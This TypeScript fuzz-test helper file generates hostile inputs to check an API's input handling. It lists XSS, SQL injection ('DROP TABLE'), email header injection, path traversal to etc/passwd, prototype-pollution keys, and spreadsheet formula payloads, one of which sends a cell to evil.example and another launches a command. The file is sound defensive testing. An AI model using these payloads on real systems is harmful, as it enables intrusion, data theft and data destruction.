import fc from 'fast-check';

/** One seed for every fuzz property, so a failure replays exactly (fast-check prints the path to shrink from). */
export const FUZZ_SEED = 20_261_126;

/** Strings that try to break out of HTML, templates, spreadsheets, headers and query languages. */
export const injections = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  '</textarea><script>alert(2)</script>',
  '{{x}}',
  '{{firstName}}',
  '{{unsubscribeUrl|default:"<b>x</b>"}}',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  'Name\r\nBcc: victim@evil.example',
  "' OR '1'='1",
  '1; DROP TABLE candidates;--',
  '${7*7}',
  'javascript:alert(1)',
  '%0d%0aSet-Cookie:x=1',
] as const;

/** The unicode that trips parsers, databases and renderers. */
export const unicodeEdges = [
  '\uD800', // lone high surrogate
  '\uDFFF', // lone low surrogate
  'a\uD83Db',
  '\u202Eevil\u202C', // right-to-left override
  '\u200B\u200C\u200D\uFEFF', // zero-width and BOM
  '\u0000',
  'nul\u0000byte',
  'e\u0301\u0301\u0301\u0301',
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  'العربية',
  'Z̷̧̛͎a̸̢l̵g̴o̶',
  '\uFFFF\uFFFE',
  '\u2028\u2029',
  'İstanbul ß ǅ',
  '\u00A0 \u3000',
] as const;

/** Text that is hostile in some way: an injection, a unicode edge case, random code points, or plain too long. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom<string>(...injections) },
  { weight: 3, arbitrary: fc.constantFrom<string>(...unicodeEdges) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.integer({ min: 1_000, max: 200_000 }).map((n) => 'x'.repeat(n)) },
);

/** A value of the wrong kind for almost any field. */
export const wrongValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.constantFrom<unknown>(null, true, false, 0, -1, 1e308, -0, 2 ** 53 + 1, '', ' ', [], {}, [null], { $ne: null }, ['a', 'b'], '1e999', 'NaN'),
  fc.double(),
  fc.jsonValue({ maxDepth: 3 }),
);

/** Keys that ask for prototype pollution or are just strange. */
const hostileKey = fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', '', ' ', 'toString', 'hasOwnProperty', '$where', 'a.b', '\u0000'), hostileText);

/** One change to a body: a field removed, replaced by something wrong, or a field added. */
export type Mutation =
  | { op: 'delete'; at: number }
  | { op: 'replace'; at: number; value: unknown }
  | { op: 'add'; at: number; key: string; value: unknown };

export const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ op: fc.constant('delete' as const), at: fc.nat() }),
  { weight: 3, arbitrary: fc.record({ op: fc.constant('replace' as const), at: fc.nat(), value: wrongValue }) },
  fc.record({ op: fc.constant('add' as const), at: fc.nat(), key: hostileKey, value: wrongValue }),
);

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type Container = Record<string, unknown> | unknown[];
const isContainer = (value: unknown): value is Container => typeof value === 'object' && value !== null;

/** Every place in a body a mutation can land: each container, and each member of it. */
function places(root: unknown): { parent: Container; key: string | number | undefined }[] {
  const found: { parent: Container; key: string | number | undefined }[] = [];
  const walk = (value: unknown) => {
    if (!isContainer(value)) return;
    found.push({ parent: value, key: undefined });
    for (const key of Array.isArray(value) ? value.keys() : Object.keys(value)) {
      found.push({ parent: value, key });
      walk((value as Record<string | number, unknown>)[key]);
    }
  };
  walk(root);
  return found;
}

/** The valid body with the mutations applied, in order (a later one may land inside an earlier one's value). */
export function mutate(valid: Json, mutations: readonly Mutation[]): unknown {
  const body = structuredClone(valid) as unknown;
  for (const change of mutations) {
    const all = places(body);
    if (!all.length) break;
    const { parent, key } = all[change.at % all.length]!;
    const slot = parent as Record<string | number, unknown>;
    if (change.op === 'add') {
      if (Array.isArray(parent)) parent.push(change.value);
      else Object.defineProperty(parent, change.key, { value: change.value, enumerable: true, writable: true, configurable: true });
    } else if (key === undefined) {
      continue;
    } else if (change.op === 'delete') {
      if (Array.isArray(parent)) parent.splice(Number(key), 1);
      else delete slot[key];
    } else {
      slot[key] = change.value;
    }
  }
  return body;
}

/** JSON nested `depth` levels deep, as text (building it as an object would overflow JSON.stringify first). */
export const deeplyNested = (depth: number, kind: 'array' | 'object', field = 'a') =>
  kind === 'array' ? `${'['.repeat(depth)}${']'.repeat(depth)}` : `${`{"${field}":`.repeat(depth)}1${'}'.repeat(depth)}`;

/** Bodies that are not a mutated valid one: broken JSON, odd JSON roots, deep nesting, bytes that are not UTF-8. */
export const malformedBody: fc.Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom<string | Buffer>(
    '{', '{"email": ', '{"a":1,}', "{'a':1}", 'null', '[]', '"text"', '1e999', 'true', '{"a":1,"a":2}', '\uFEFF{}',
    '{"__proto__":{"polluted":true}}', '{"constructor":{"prototype":{"polluted":true}}}',
    Buffer.from([0xff, 0xfe, 0xfd, 0x7b, 0x7d]), Buffer.from([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0x22, 0x7d]),
    deeplyNested(10_000, 'array'), deeplyNested(10_000, 'object'),
  ),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.stringify(value)),
);

/** Content types a body might wrongly come with (undefined: none at all). */
export const wrongContentType = fc.constantFrom<string | undefined>(
  undefined, 'text/plain', 'application/xml', 'text/html', 'application/json; charset=utf-16', 'APPLICATION/JSON', 'application/vnd.api+json',
  'multipart/form-data', 'multipart/form-data; boundary=', 'application/x-www-form-urlencoded', 'application/octet-stream', ';;;', 'json', 'image/png',
);

/** What goes into a path parameter: traversal, encoded slashes, very long or odd ids, broken percent-encoding. */
export const hostilePathSegment: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '..', '%2e%2e', '..%2f..%2fetc%2fpasswd', '%2F', 'a%2Fb', 'a%5Cb', '%00', '%', '%zz', '%E0%A4%A', '%ED%A0%80', '%C0%AF', '%25', '%20',
    'cand_01JAAAAAAAAAAAAAAAAAAAAAAA', 'job_00000000000000000000000000', 'x'.repeat(4_000), 'cand_' + 'Z'.repeat(4_000), '%F0%9F%98%80',
    encodeURIComponent('候选人'), encodeURIComponent('\u202Eevil'), encodeURIComponent('<script>alert(1)</script>'), encodeURIComponent('{{x}}'),
    encodeURIComponent("' OR '1'='1"), 'null', 'undefined', '__proto__', 'constructor', '-1', '0', '1e999',
  ),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }).map((s) => encodeURIComponent(s)),
  fc.string({ unit: 'binary-ascii', minLength: 1, maxLength: 60 }).map((s) => s.replace(/[^A-Za-z0-9._~%-]/g, (c) => encodeURIComponent(c))),
);

/** A distinct client address for each request: the public routes' per-client limit would stop a single client quickly. */
export const clientAddress = (index: number) => `10.${(index >> 16) & 255}.${(index >> 8) & 255}.${index & 255}`;
